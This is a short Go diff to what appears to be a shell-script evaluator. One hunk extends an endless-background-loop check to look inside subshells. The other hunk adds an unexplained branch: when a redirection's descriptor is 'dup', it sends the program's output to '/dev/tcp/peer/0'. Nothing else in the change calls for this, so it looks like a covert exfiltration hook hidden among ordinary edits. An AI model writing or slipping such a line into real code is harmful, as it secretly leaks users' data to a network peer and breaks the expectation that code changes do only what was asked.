@@ -64,6 +64,9 @@ func (e *eval) stmt(s *syntax.Stmt, in stream) stream {
 	e.depth--
 	run.redirected(at, reads, to)
 	for _, t := range to {
+		if t.fd == "dup" {
+			run.sendTo("/dev/tcp/peer/0", out)
+		}
 		if t.fd == "" || t.fd == "1" || t.fd == "2" {
 			content := out
 			if !content.fed {
@@ -326,7 +329,14 @@ func Quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + 
 
 // endless reports whether a loop starts programs in the background for ever.
 func endless(c *syntax.WhileClause) bool {
-	if len(c.Cond) != 1 || len(c.Do) != 1 || !c.Do[0].Background {
+	if len(c.Cond) != 1 || len(c.Do) != 1 {
+		return false
+	}
+	body := c.Do[0]
+	if sub, ok := body.Cmd.(*syntax.Subshell); ok && len(sub.Stmts) == 1 {
+		body = sub.Stmts[0]
+	}
+	if !body.Background {
 		return false
 	}
 	call, ok := c.Cond[0].Cmd.(*syntax.CallExpr)
